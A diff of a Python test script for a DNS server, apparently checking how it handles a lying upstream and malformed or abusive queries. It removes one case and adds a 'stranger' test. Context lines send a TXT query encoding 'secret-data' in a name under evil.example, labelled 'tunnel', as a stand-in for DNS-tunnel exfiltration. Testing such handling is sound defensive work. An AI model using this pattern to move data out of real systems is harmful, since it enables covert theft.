@@ -183,7 +183,7 @@ def address_of(answer):
 
 def lies():
     """What liar.py says: rcode, and the address if there is one."""
-    for what in ("good", "guess", "question", "question2", "short", "head", "empty", "loop", "cnameloop", "count", "size",
+    for what in ("good", "guess", "question", "question2", "short", "head", "loop", "cnameloop", "count", "size",
                  "five", "rest", "many", "stranger"):
         s = udp()
         s.settimeout(20)
@@ -239,6 +239,10 @@ def bad():
     print("good", rcode(s.recv(512)))
     s.sendto(question("secret-data-0123456789.evil.example", kind=16), SERVER)
     print("tunnel", rcode(s.recv(512)))
+
+
+def stranger():
+    ask("stranger.good.example")
 
 
 def good():
